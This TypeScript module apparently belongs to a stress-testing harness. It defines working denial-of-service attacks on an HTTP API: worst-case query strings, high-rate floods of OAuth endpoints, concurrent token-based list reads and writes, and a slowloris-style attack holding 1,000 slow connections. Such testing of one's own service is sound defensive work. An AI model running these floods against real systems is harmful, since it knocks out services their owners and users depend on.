import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'

/** What an attacker has to know; a stranger knows the address alone. */
export type Target = Readonly<{
  url: string
  /** The address that the attack comes from. */
  from: string
  /** A token of somebody with everything at its cap, and that person's lists. */
  heavy: { token: string; lists: readonly string[] }
  /** Tokens of the managers of one app. */
  managers: { tokens: readonly string[]; app: string }
}>

/** What was sent and answered, and which share of a processor the attacker itself took. */
export type Tally = { sent: number; statuses: Record<string, number>; load: number }
type Attack = (target: Target, tally: Tally, over: AbortSignal) => Promise<unknown>

/** `count` spellings of one query name. */
function spell(count: number): string[] {
  const letters = [...'abcdefghijklm']
  return Array.from({ length: count }, (_, n) =>
    letters.map((letter, bit) => ((n >> bit) & 1 ? letter.toUpperCase() : letter)).join(''),
  )
}

const EVENTS = '/subscriptions/s/providers/Microsoft.ResourceHealth/events?api-version=2025-05-01'

export const LONG_QUERY = `/v0.1/user?${spell(3800).join('=&')}=`.slice(0, 56_000)
/** 200 parameters and just below 16 KiB, all of it spellings of one name and bytes to decode. */
export const WORST_QUERY = `${EVENTS}&${spell(199).join(`=${'%C3%A9'.repeat(11)}&`)}`
/** As many parameters as fit, where the router would read a query as well. */
export const FRAGMENT_QUERY = `/v0.1/apps#${Array.from({ length: 3000 }, (_, n) => n).join('&')}`

type Sent = {
  signal?: AbortSignal
  method?: string
  token?: string
  body?: string
  type?: string
}

/** One request; what comes back is read to its end, and counted by status. */
export function ask(agent: Agent, url: string, sent: Sent = {}, tally?: Tally): Promise<number> {
  const { signal, method = 'GET', token, body, type = 'application/json' } = sent
  const headers = {
    ...(token !== undefined && { 'x-api-token': token }),
    ...(body !== undefined && { 'content-type': type, 'content-length': Buffer.byteLength(body) }),
  }
  return new Promise((resolve) => {
    if (tally) tally.sent++
    const end = (status: number) => {
      if (tally) tally.statuses[status] = (tally.statuses[status] ?? 0) + 1
      resolve(status)
    }
    // Given as it is: of an address, Node would leave out what is behind "#".
    const path = url.slice(new URL(url).origin.length)
    const options = { agent, method, path, headers, ...(signal && { signal }) }
    const call = request(url, options, (response) => {
      response.resume()
      response.on('end', () => end(response.statusCode ?? 0))
      response.on('error', () => end(0))
    })
    call.on('error', () => end(0))
    call.end(body)
  })
}

/** So many a second, whether earlier ones are answered or not, but never more than 500 at once. */
async function atRate(
  perSecond: number,
  over: AbortSignal,
  send: (turn: number) => Promise<unknown>,
): Promise<void> {
  const startedAt = performance.now()
  let inFlight = 0
  for (let turn = 0; !over.aborted; turn++) {
    await delay(Math.max(0, startedAt + (turn * 1000) / perSecond - performance.now()))
    if (inFlight >= 500) continue
    inFlight++
    void send(turn).finally(() => inFlight--)
  }
}

/** When the attack is over, what is still under way is dropped. */
function openAgent({ from }: Target, over: AbortSignal, maxSockets = 500): Agent {
  const agent = new Agent({ keepAlive: true, maxSockets, localAddress: from })
  over.addEventListener('abort', () => agent.destroy())
  return agent
}

const repeat = (url: string, perSecond: number): Attack => {
  return async (target, tally, over) => {
    const agent = openAgent(target, over)
    await atRate(perSecond, over, () => ask(agent, target.url + url, {}, tally))
  }
}

const OAUTH: readonly ((turn: number) => [path: string, sent: Sent])[] = [
  (turn) => [`/oauth2/auth?client_id=portal&response_type=code&scope=openid&state=${turn}`, {}],
  (turn) => [`/oauth2/auth?client_id=nobody-${turn}&response_type=code`, {}],
  () => ['/oauth2/token', form('grant_type=authorization_code&client_id=portal&code=x')],
  () => ['/oauth2/device/auth', form('client_id=portal')],
  () => ['/oauth2/token', form('grant_type=client_credentials&client_id=x&client_secret=y')],
]
const form = (body: string): Sent => ({
  method: 'POST',
  body,
  type: 'application/x-www-form-urlencoded',
})

/** Each holds a connection open and sends a byte of a header now and then. */
async function trickle(count: number, target: Target, tally: Tally, over: AbortSignal) {
  const { hostname, port } = new URL(target.url)
  const sockets: Socket[] = []
  while (!over.aborted) {
    const missing = count - sockets.filter((socket) => !socket.destroyed).length
    for (let left = Math.min(missing, 100); left > 0; left--) {
      const socket = connect({ port: Number(port), host: hostname, localAddress: target.from }).on(
        'error',
        () => undefined,
      )
      socket.write('GET /v0.1/user HTTP/1.1\r\nX-Slow: ')
      sockets.push(socket)
      tally.sent++
    }
    for (const socket of sockets) if (socket.writable) socket.write('x')
    await delay(100)
  }
  for (const socket of sockets) socket.destroy()
}

export const ATTACKS = {
  '56 kB query, 10/s': repeat(LONG_QUERY, 10),
  'worst query within the bounds, 100/s': repeat(WORST_QUERY, 100),
  'worst query behind #, 100/s': repeat(FRAGMENT_QUERY, 100),
  'ten capped lists at once': async (target, tally, over) => {
    const { url, heavy } = target
    const agent = openAgent(target, over)
    const walk = async (first: number) => {
      for (let turn = first; !over.aborted; turn++) {
        const list = heavy.lists[turn % heavy.lists.length] ?? ''
        const status = await ask(agent, url + list, { token: heavy.token }, tally)
        // A list that is refused at once must not become a loop of its own.
        if (status >= 400) await delay(50)
      }
    }
    await Promise.all(Array.from({ length: 10 }, (_, each) => walk(each)))
  },
  '150 accounts write to one owner': async (target, tally, over) => {
    const { url, managers } = target
    const write = async (token: string, member: number) => {
      const agent = openAgent(target, over, 1)
      for (let turn = 0; !over.aborted; turn++) {
        const body = JSON.stringify({ display_name: `Tide ${member} ${turn}` })
        const status = await ask(agent, url + managers.app, { method: 'PATCH', token, body }, tally)
        if (status >= 400) await delay(50)
      }
    }
    await Promise.all(managers.tokens.map(write))
  },
  '500 anonymous /oauth2 requests/s': async (target, tally, over) => {
    const { url } = target
    const agent = openAgent(target, over)
    await atRate(500, over, (turn) => {
      const [path, sent] = OAUTH[turn % OAUTH.length]?.(turn) ?? ['', {}]
      return ask(agent, url + path, sent, tally)
    })
  },
  '1,000 slow connections': (target, tally, over) => trickle(1000, target, tally, over),
} as const satisfies Record<string, Attack>

export type AttackName = keyof typeof ATTACKS
